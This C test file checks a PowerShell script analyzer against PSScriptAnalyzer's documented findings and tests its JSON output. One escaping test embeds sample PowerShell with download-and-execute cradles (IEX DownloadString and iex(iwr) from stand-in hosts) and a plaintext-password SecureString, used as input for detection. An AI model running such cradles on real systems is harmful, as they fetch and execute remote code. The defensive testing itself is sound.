/* test-analyzer-pssa.c: agreement with PSScriptAnalyzer's documented verdicts on a labelled set
 * (tests/data/pssa: each file's first line is "# pssa: Rule=N ...", the number of findings
 * PSScriptAnalyzer's documentation gives for that rule on the file; a second line
 * "# settings: @{ ... }" analyses it with those settings, as Invoke-ScriptAnalyzer -Settings) */
#include "config.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <json-c/json.h>

#include "analyzer/analyzer.h"
#include "core/core.h"
#include "ps-files.h"
#include "t.h"

static int
name_cmp(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* ps_analysis_write_json appends the bytes json-c writes for ps_analysis_to_json's tree
 * (POST /api/scripts/analyze's answer and the stored analysis are written without the tree). */
static void
check_text_writer(const struct ps_analysis *a, const char *where)
{
	struct json_object *tree = ps_analysis_to_json(a);
	const char *x = json_object_to_json_string_ext(tree, JSON_C_TO_STRING_PLAIN |
	    JSON_C_TO_STRING_NOSLASHESCAPE), *y;
	struct buf b = BUF_INIT;
	size_t i = 0;

	buf_puts(&b, "{\"before\":");	/* it appends */
	ps_analysis_write_json(a, &b);
	y = buf_cstr(&b);
	T_ASSERT(strncmp(y, "{\"before\":", 10) == 0);
	y += 10;
	while (x[i] != '\0' && x[i] == y[i])
		i++;
	T_ASSERTF(x[i] == y[i], "%s: the text differs from the tree at byte %zu: ...%.60s... vs ...%.60s...",
	    where, i, x + (i > 20 ? i - 20 : 0), y + (i > 20 ? i - 20 : 0));
	json_object_put(tree);
	buf_free(&b);
}

/* The settings of a "# settings: @{ ... }" second line into *out (none: left NULL);
 * -1 when they do not parse. */
static int
settings_line(const char *text, struct ps_settings **out)
{
	const char *l = strchr(text, '\n'), *e;
	struct buf err = BUF_INIT;
	int rc = 0;

	if (l == NULL || strncmp(l + 1, "# settings:", 11) != 0)
		return 0;
	l += 12;
	e = strchr(l, '\n');
	if (ps_settings_parse(l, e != NULL ? (size_t)(e - l) : strlen(l),
	    out, &err, NULL) != PSS_OK) {
		printf("# settings: %s\n", buf_cstr(&err));
		rc = -1;
	}
	buf_free(&err);
	return rc;
}

/* check_file: 1 when every labelled count matches, 0 when one does not, -1 when unlabelled */
static int
check_file(const char *dir, const char *name, unsigned *rules, unsigned *rules_ok)
{
	char path[4400], rule[96];
	struct buf b = BUF_INIT;
	struct ps_analysis *a = NULL;
	struct ps_analyze_opts o;
	struct ps_settings *set = NULL;
	const char *p;
	int ok = 1, n, used;
	unsigned want;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	memset(&o, 0, sizeof(o));
	o.file_name = name;
	if (file_read(path, &b, SIZE_MAX) != PSS_OK || strncmp(buf_cstr(&b), "# pssa:", 7) != 0 ||
	    settings_line(buf_cstr(&b), &set) != 0 || (o.settings = set,
	    ps_analyze(b.data, b.len, &o, &a)) != PSS_OK) {
		ps_settings_free(set);
		buf_free(&b);
		return -1;
	}
	check_text_writer(a, name);
	for (p = b.data + 7; (n = sscanf(p, " %95[A-Za-z]=%u%n", rule, &want, &used)) == 2;
	    p += used) {
		unsigned got = 0;

		for (size_t i = 0; i < a->nfindings; i++)
			got += strcmp(a->findings[i].rule->id, rule) == 0;
		T_ASSERTF(ps_rule_find(rule) != NULL, "%s: unknown rule %s", name, rule);
		(*rules)++;
		if (got == want) {
			(*rules_ok)++;
		} else {
			printf("# %s: %s %u, PSScriptAnalyzer %u\n", name, rule, got, want);
			ok = 0;
		}
	}
	ps_analysis_free(a);
	ps_settings_free(set);
	buf_free(&b);
	return ok;
}

/* The set agrees with PSScriptAnalyzer in at least 95 % of its files (the target). */
static void
test_agreement_with_pssa(void)
{
	const char *root = getenv("PSS_SRCDIR");
	char dir[4096];
	char *names[512];
	size_t n = 0;
	unsigned files = 0, agree = 0, rules = 0, rules_ok = 0;
	DIR *d;
	struct dirent *e;

	snprintf(dir, sizeof(dir), "%s/tests/data/pssa", root ? root : ".");
	T_ASSERT((d = opendir(dir)) != NULL);
	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL && n < PSS_ARRAY_LEN(names))
		if (e->d_name[0] != '.')
			names[n++] = xstrdup(e->d_name);
	closedir(d);
	qsort(names, n, sizeof(*names), name_cmp);
	for (size_t i = 0; i < n; i++) {
		int r = check_file(dir, names[i], &rules, &rules_ok);

		T_ASSERTF(r >= 0, "%s: not a labelled file", names[i]);
		files += r >= 0;
		agree += r == 1;
		free(names[i]);
	}
	printf("# PSScriptAnalyzer agreement: %u of %u files (%.1f %%), %u of %u rule counts\n",
	    agree, files, files ? 100.0 * agree / files : 0.0, rules_ok, rules);
	T_ASSERT(files >= 80);
	T_ASSERTF(agree * 100 >= files * 95, "agreement %u of %u is below 95 %%", agree, files);
}

/* The text writer with what JSON escapes: control characters, quotes, backslashes, tabs,
 * bytes that are not UTF-8, non-ASCII text, an attack technique's properties and a fix. */
static void
test_text_writer_escaping(void)
{
	static const char src[] =
	    "Write-Host 'a\x01" "b\x1f \\ \" q\tt \xff\xfe caf\xc3\xa9 \xe2\x80\xae / <x>'\n"
	    "gci C:\\ | % { $_.Name }\n"
	    "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')\n"
	    "$p = ConvertTo-SecureString 'P@ss' -AsPlainText -Force\n"
	    "cmd /c \"powershell -c iex(iwr http://192.0.2.1/x -UseBasicParsing)\"\n";
	struct ps_analysis *a = NULL;

	T_EQ(ps_analyze(src, sizeof(src) - 1, NULL, &a), PSS_OK);
	T_ASSERT(a != NULL && a->nfindings >= 3);
	{
		bool mitre = false, fix = false, ctl = false;

		for (size_t i = 0; a != NULL && i < a->nfindings; i++) {
			mitre |= a->findings[i].mitre != NULL;
			fix |= a->findings[i].fix != NULL;
			ctl |= a->findings[i].extent != NULL && strchr(a->findings[i].extent, '\x01') != NULL;
		}
		T_ASSERTF(mitre && fix && ctl, "mitre %d fix %d control %d", mitre, fix, ctl);
	}
	if (a != NULL)
		check_text_writer(a, "escaping");
	ps_analysis_free(a);
}

/* The length of the JSON array at path (members separated by '/') in o, -1 when absent. */
static int
array_len(struct json_object *o, const char *path)
{
	char key[64];

	while (o != NULL && *path != '\0') {
		size_t n = strcspn(path, "/");

		snprintf(key, sizeof(key), "%.*s", (int)n, path);
		if (json_object_is_type(o, json_type_array))
			o = json_object_array_get_idx(o, (size_t)atoi(key));
		else if (!json_object_object_get_ex(o, key, &o))
			return -1;
		path += n + (path[n] == '/');
	}
	return json_object_is_type(o, json_type_array) ? (int)json_object_array_length(o) : -1;
}

/* The text writer on a script that fills the members the pssa files leave empty or short:
 * parameters with help, types, a ValidateSet and a default value cut at 200 bytes inside a
 * UTF-8 character, functions with a synopsis, aliases used in two cases, the parameters
 * used, hosts, urls (one twice), imports, compatibility notes, evidence and a bad byte in a
 * command's name. */
static void
test_text_writer_members(void)
{
	struct buf src = BUF_INIT;
	struct json_object *tree;
	struct ps_analysis *a = NULL;

	buf_puts(&src, "<#\n.SYNOPSIS\nFetch \"things\".\n.PARAMETER Name\nThe name\\path.\n#>\n"
	    "[CmdletBinding()]\nparam(\n  [Parameter(Mandatory)][ValidateSet('a\"b', 'c\\d', 'caf\xc3\xa9')]"
	    "[string]$Name,\n  [string]$Long = '");
	for (int i = 0; i < 99; i++)
		buf_puts(&src, "x");
	buf_puts(&src, "\xc3\xa9\xc3\xa9\xc3\xa9', $Untyped\n)\n#Requires -Modules Foo\n"
	    "Import-Module Bar\n. ./lib.ps1\nusing module Baz\n"
	    "function Get-Thing {\n  <#\n  .SYNOPSIS\n  Gets a thing / two.\n  #>\n"
	    "  [CmdletBinding(SupportsShouldProcess)]\n  param([int]$Id = 3)\n  $Id\n}\n"
	    "gci -Path C:\\ -Recurse | % { $_ }\nGCI -Filter *.txt\nls -Force\n"
	    "Invoke-Command -ComputerName 'srv\"01' -ScriptBlock { 1 }\n"
	    "Invoke-WebRequest -Uri 'https://example.com/a?b=\"c\"&d=\\e'\n"
	    "Invoke-WebRequest -Uri 'https://example.com/a?b=\"c\"&d=\\e'\n"
	    "$x = $null ?? 'y'\n$z = $true ? 1 : 2\n"
	    "Set-ItemProperty -Path HKLM:\\Software\\X -Name Y -Value 1\n"
	    "& 'tool\xff.exe' --flag\nStop-Process -Name notepad\n"
	    "Write-Host \"`t tab `a bell\"\n");
	T_EQ(ps_analyze(src.data, src.len, NULL, &a), PSS_OK);
	T_ASSERT(a != NULL);
	if (a == NULL) {
		buf_free(&src);
		return;
	}
	tree = ps_analysis_to_json(a);
	T_ASSERT(array_len(tree, "parameters/script") >= 3);
	T_ASSERT(array_len(tree, "parameters/script/0/validValues") == 3);
	T_ASSERT(array_len(tree, "parameters/functions/0/parameters") == 1);
	T_ASSERT(array_len(tree, "executionSummary/hosts") == 1);
	T_ASSERT(array_len(tree, "executionSummary/urls") == 1);
	T_ASSERT(array_len(tree, "executionSummary/imports") >= 2);
	T_ASSERT(array_len(tree, "compatibilityNotes") >= 1);
	T_ASSERT(array_len(tree, "suggestions") >= 1);
	json_object_put(tree);
	{
		bool aliases = false, params = false;
		struct json_object *cmds;

		tree = ps_analysis_to_json(a);
		json_object_object_get_ex(tree, "commandDetails", &cmds);
		for (size_t i = 0; i < json_object_array_length(cmds); i++) {
			char path[64];

			snprintf(path, sizeof(path), "commandDetails/%zu/aliasesUsed", i);
			aliases |= array_len(tree, path) >= 2;
			snprintf(path, sizeof(path), "commandDetails/%zu/parametersUsed", i);
			params |= array_len(tree, path) >= 2;
		}
		T_ASSERTF(aliases && params, "aliases %d parameters %d", aliases, params);
		json_object_put(tree);
	}
	check_text_writer(a, "members");
	ps_analysis_free(a);
	buf_free(&src);
}

int
main(void)
{
	T_RUN(test_agreement_with_pssa);
	T_RUN(test_text_writer_escaping);
	T_RUN(test_text_writer_members);
	return t_done();
}
